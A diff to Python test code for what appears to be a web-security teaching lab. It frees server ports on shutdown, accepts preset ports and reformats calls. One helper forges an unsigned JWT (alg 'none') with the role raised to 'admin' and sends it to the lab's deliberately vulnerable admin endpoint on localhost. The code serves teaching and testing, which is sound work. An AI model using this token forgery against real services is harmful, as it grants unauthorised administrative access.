@@ -28,10 +28,11 @@ class Class:
     def stop(self):
         for thread in self.threads:
             thread.stop()
+            thread.server.server_close()  # free the port: a restart serves the same origins again
 
 
-def start_class(folder, **overrides):
-    ports = tuple(free_port() for _ in ROLES)
+def start_class(folder, ports=None, **overrides):
+    ports = ports or tuple(free_port() for _ in ROLES)
     settings = Settings(folder=folder, host="localhost", attacker_host="attacker.localhost", ports=ports, **overrides)
     origins = {role: create_origin(role, settings) for role in ROLES}
     running = Class(settings, origins)
@@ -78,7 +79,10 @@ def join(running, name="Ada"):
     http = requests.Session()
     page = http.get(running.front, timeout=10)
     answer = http.post(
-        running.front + "join", data={"name": name, "csrf_token": form_token(page.text)}, allow_redirects=False, timeout=10
+        running.front + "join",
+        data={"name": name, "csrf_token": form_token(page.text)},
+        allow_redirects=False,
+        timeout=10,
     )
     assert answer.status_code == 303, answer.text
     key = urlsplit(answer.headers["Location"]).path.split("/")[2]
@@ -104,8 +108,16 @@ def alg_none_admin(student):
         student.url("app", "/vulnerable/jwt/login"), json={"username": "bob", "password": "thebuilder"}, timeout=30
     ).json()
     claims = json.loads(base64.urlsafe_b64decode(signed_in["access_token"].split(".")[1] + "=="))
-    forged = ".".join([b64(json.dumps({"alg": "none", "typ": "JWT"}).encode()), b64(json.dumps({**claims, "role": "admin"}).encode()), ""])
-    return student.http.get(student.url("app", "/vulnerable/jwt/admin"), headers={"Authorization": f"Bearer {forged}"}, timeout=30)
+    forged = ".".join(
+        [
+            b64(json.dumps({"alg": "none", "typ": "JWT"}).encode()),
+            b64(json.dumps({**claims, "role": "admin"}).encode()),
+            "",
+        ]
+    )
+    return student.http.get(
+        student.url("app", "/vulnerable/jwt/admin"), headers={"Authorization": f"Bearer {forged}"}, timeout=30
+    )
 
 
 class Instructor:
